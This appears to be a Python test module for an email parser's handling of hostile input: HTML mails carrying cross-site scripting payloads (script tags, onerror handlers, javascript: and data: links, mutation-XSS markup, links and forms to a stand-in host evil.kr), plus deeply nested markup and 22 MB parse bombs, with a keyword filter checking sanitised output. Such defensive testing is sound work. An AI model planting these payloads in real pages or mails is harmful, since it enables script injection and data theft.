"""Rows 66 to 69: HTML and texts that cost much to look at, and mails that hardly are any; and what
a mail of 22 MB may cost whatever its octets are."""

from collections.abc import Callable
from functools import partial

from tests.deciders.hostile_rows import (
    HEAD,
    KEEP,
    Check,
    Row,
    entity,
    html,
    keeps,
    multipart,
    says,
    text,
)
from tests.deciders.hostile_rows import holds as so

HUGE = 22_000_000


def markup(title: str, make: Callable[[], bytes], seconds: float = 2.0) -> Row:
    """The text is there in some form, and within the time."""
    return Row(67, title, lambda: html(make()), (keeps(),), seconds)


def written(title: str, make: Callable[[], bytes]) -> Row:
    """Row 68: 200 KB of text in which a quote is looked for."""
    return Row(68, title, lambda: text(make()), (keeps(),), 0.5)


def attack(title: str, body: bytes, *checks: Check) -> Row:
    """Row 66: nothing of it runs, nothing is loaded, what it says stays."""
    return Row(66, title, lambda: html(KEEP + body), (keeps(), harmless, *checks), 0.2)


def _is_harmless(shown: str) -> bool:
    lowered = shown.lower()
    bad = (" on", "javascript:", "vbscript:", "@import", "srcset", "<style", "<math", "data:text")
    return not any(word in lowered for word in bad)


harmless = so(
    "nothing that runs or loads",
    lambda r: _is_harmless(r.mail.html or "") and _is_harmless(r.mail.reply_html or ""),
)


def odd(title: str, content: bytes, shown: str, **more: object) -> Row:
    return Row(69, title, lambda: content, (says(full_text=shown, **more),), 0.2, 50)


def repeated(unit: bytes, size: int = HUGE) -> bytes:
    return unit * (size // len(unit))


def encoded(encoding: bytes, unit: bytes, content_type: bytes = b"text/plain") -> bytes:
    fields = b"Content-Type: %b\r\nContent-Transfer-Encoding: %b"
    return entity(fields % (content_type, encoding), repeated(unit))


def bomb(title: str, make: Callable[[], bytes], seconds: float = 4.0) -> Row:
    """22 MB, the most that is accepted, and what it says at its end."""
    end = b"\r\n" + KEEP + b"\r\n"
    return Row(0, f"22 MB of {title}", lambda: make() + end, (keeps(),), seconds)


def decoded(title: str, encoding: bytes, unit: bytes) -> Row:
    """22 MB in an encoding, which has no place for what the mail says at its end."""
    return Row(0, f"22 MB of {title}", partial(encoded, encoding, unit), (), 4.0)


def parts(part: bytes, subtype: bytes = b"mixed") -> bytes:
    return multipart(repeated(part), subtype=subtype)


def levels() -> bytes:
    opening = b"".join(
        b"Content-Type: multipart/mixed; boundary=b%d\r\n\r\n--b%d\r\n" % (n, n) for n in range(49)
    )
    return HEAD + opening + b"\r\n" + repeated(b"--b0x\r\n")


SAYS = b"\r\n" + KEEP

ROWS = (
    attack("a script", b"<script>alert(1)</script>"),
    attack("an event", b'<img src=x onerror="alert(1)"><body onload=alert(1)>'),
    attack(
        "a script in a link",
        b'<a href="java\nscript:alert(1)">x</a><a href="&#106;avascript:x">y</a>',
    ),
    attack("a document in a link", b'<a href="data:text/html,<script>x</script>">x</a>'),
    attack("svg", b"<svg><script>alert(1)</script><animate onbegin=x></svg>"),
    attack(
        "markup that changes when it is parsed twice",
        b"<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></table></math>",
    ),
    attack("a comment that is none", b"<!--><img src=x onerror=alert(1)>-->"),
    attack("noscript", b'<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>'),
    attack(
        "base and refresh",
        b'<base href="https://evil.kr/"><meta http-equiv=refresh content="0;url=//evil.kr">',
    ),
    attack(
        "sources of images",
        b'<img srcset="https://evil.kr/x 2x"><picture><source srcset=//evil.kr></picture>',
    ),
    attack("an import of styles", b"<style>@import 'https://evil.kr/x.css';</style>"),
    attack(
        "a style with a URL",
        b'<p style="background:url(https://evil.kr/x)">x</p>',
        so("no URL", lambda r: "evil" not in (r.mail.html or "")),
    ),
    attack(
        "a form",
        b'<form action="https://evil.kr"><input name=p><button formaction=javascript:x>x</form>END',
        keeps(b"END"),
    ),
    attack(
        "a frame", b'<iframe src="https://evil.kr"></iframe><object data=x></object><embed src=x>'
    ),
    markup("100,000 div", lambda: b"<div>" * 100_000 + KEEP),
    markup("1 MB of ampersands", lambda: b"&" * 1_000_000 + KEEP),
    markup("250 KB of ampersands", lambda: b"&" * 250_000 + KEEP),
    markup("100,000 attributes", lambda: b"<p " + b"a=1 " * 100_000 + b">" + KEEP),
    markup("50,000 rules", lambda: b"a<hr>" * 50_000 + KEEP),
    markup("15,000 tables in tables", lambda: b"<table><tr><td>" * 15_000 + KEEP),
    markup("50,000 b that stay open", lambda: b"<b>" * 50_000 + KEEP),
    markup("blockquotes 5,000 deep", lambda: b"<blockquote>" * 5000 + KEEP),
    markup(
        "20,000 rows", lambda: b"<table>" + b"<tr><td>a</td></tr>" * 20_000 + b"</table>" + KEEP
    ),
    markup("5 MB of text", lambda: KEEP + b" text" * 1_000_000),
    markup("an attribute of 1 MB", lambda: b'<p title="' + b"a" * 1_000_000 + b'">' + KEEP),
    markup("20,000 links", lambda: b'<a href="https://x.kr/">x</a>' * 20_000 + KEEP),
    markup("p and b crossed", lambda: b"<p><b>" * 5000 + KEEP),
    markup("100,000 comments", lambda: b"<!-- x -->" * 100_000 + KEEP),
    markup("entities", lambda: b"&amp;&#x41;&nbsp;" * 50_000 + KEEP),
    markup("a style of 1 MB", lambda: b"<style>" + b"p{color:red}" * 80_000 + b"</style>" + KEEP),
    written("German attributions", lambda: b"Am 1.1. schrieb " * 1300 + SAYS),
    written("8,000 blank lines", lambda: b"a" + b"\n" * 8000 + KEEP),
    written("100,000 marks of quotes", lambda: b">" * 100_000 + SAYS),
    written("100,000 quoted lines", lambda: b"> a\n" * 100_000 + KEEP),
    written("200 KB of On", lambda: b"On " * 66_000 + SAYS),
    written("lines that begin like attributions", lambda: b"On Mon, x\n" * 20_000 + KEEP),
    written("40,000 attributions", lambda: b"On 1:00 <a@b.kr> wrote:\n" * 40_000 + KEEP),
    written("200 KB of blank lines", lambda: b"\n" * 200_000 + KEEP),
    written("200 KB of blanks", lambda: b" " * 200_000 + SAYS),
    written("a line of 200 KB", lambda: b"a" * 200_000 + SAYS),
    written("lines of From:", lambda: b"From: a@b.kr\n" * 15_000 + KEEP),
    written("hyphens", lambda: b"-" * 200_000 + SAYS),
    written("underscores", lambda: b"________________\n" * 12_000 + KEEP),
    written("signatures", lambda: b"-- \nx\n" * 33_000 + KEEP),
    written("Korean words", lambda: "보낸 사람 작성: ".encode() * 9000 + SAYS),
    written("Korean header lines", lambda: "보낸 사람: x\n제목: y\n".encode() * 6000 + KEEP),
    written("marker beginnings", lambda: b"##- " * 50_000 + SAYS),
    written("forward beginnings", lambda: b"---------- Forwarded message\nFrom: a\n" * 5000 + KEEP),
    written("uuencode beginnings", lambda: b"begin 644 a.txt\n" * 12_000 + KEEP),
    odd(
        "CR alone ends the lines",
        b"From: a@b.kr\rSubject: s\r\rbody\rmore",
        "body\nmore",
        subject="s",
    ),
    odd(
        "a line of mbox first",
        b"From x@y Fri Nov 20\r\nFrom: a@b.kr\r\nSubject: s\r\n\r\nbody",
        "body",
        subject="s",
    ),
    odd(
        "blank lines first", b"\r\n\r\nFrom: a@b.kr\r\nSubject: s\r\n\r\nbody", "body", subject="s"
    ),
    odd(
        "a byte order mark first",
        b"\xef\xbb\xbfFrom: a@b.kr\r\nSubject: s\r\n\r\nbody",
        "body",
        subject="s",
    ),
    odd("no header", b"just text\nand more", "just text\nand more"),
    odd("nothing", b"", ""),
    odd("one octet", b"x", "x"),
    odd("one octet that is no text", b"\xff", "\u00ff"),
    odd(
        "no blank line after the header",
        b"From: a@b.kr\nno blank line\nafter it",
        "no blank line\nafter it",
    ),
    decoded("padding in base64", b"base64", b"=A"),
    decoded("junk in base64", b"base64", b"A!"),
    decoded("base64 in short lines", b"base64", b"A\n\na\n"),
    decoded("equals signs in quoted-printable", b"quoted-printable", b"="),
    decoded("octets in quoted-printable", b"quoted-printable", b"=00"),
    decoded("uuencode", b"x-uuencode", b"M" + b"A" * 60 + b"\n"),
    bomb("uuencode that grows", lambda: encoded(b"x-uuencode", b"M\n")),
    bomb("line feeds", lambda: encoded(b"8bit", b"\n")),
    bomb("carriage returns", lambda: encoded(b"8bit", b"\r")),
    bomb("one line", lambda: encoded(b"8bit", b"a")),
    bomb("lines of one letter", lambda: encoded(b"8bit", b"a\r\n")),
    bomb("quoted lines", lambda: encoded(b"8bit", b">\n")),
    bomb("controls", lambda: encoded(b"8bit", b"\1a")),
    bomb("characters of four octets", lambda: encoded(b"8bit", "\U0001f600".encode())),
    bomb("Korean in cp949", lambda: encoded(b"8bit", "가나다 ".encode("cp949"))),
    bomb("shifts of ISO 2022", lambda: encoded(b"8bit", b"\x1b$B!!\xff")),
    bomb("flowed lines", lambda: encoded(b"8bit", b"a \n", b"text/plain; format=flowed")),
    bomb("flowed quotes", lambda: encoded(b"8bit", b">\n", b"text/plain; format=flowed")),
    bomb("tags", lambda: encoded(b"8bit", b"<a>", b"text/html")),
    bomb("fields", lambda: repeated(b"x:\n")),
    bomb("lines that are no fields", lambda: repeated(b"x\n") + b"From: a@b.kr\n\n"),
    bomb("a folded field", lambda: HEAD + b"X-A: a" + repeated(b"\r\n b") + b"\r\n\r\n"),
    bomb("boundaries that are none", levels),
    bomb("parts", lambda: parts(b"--B\r\n\r\n" + b"a\n" * 10_000)),
    bomb("parts that end", lambda: parts(b"--B--\r\n")),
    bomb("parts with many fields", lambda: parts(b"--B\r\n" + b"a:\n" * 7000 + b"\r\n")),
    bomb("parts whose fields are none", lambda: parts(b"--B\r\n" + b"a\n" * 10_500 + b"To: x\n\n")),
    bomb(
        "attached messages",
        lambda: parts(b"--B\r\nContent-Type: message/rfc822\r\n\r\n" + b"a:\n" * 7000),
    ),
    bomb("alternatives", lambda: parts(b"--B\r\n\r\n" + b"a\n" * 11_000, b"alternative")),
    bomb("HTML parts", lambda: parts(b"--B\r\nContent-Type: text/html\r\n\r\n" + b"a\n" * 125_000)),
)
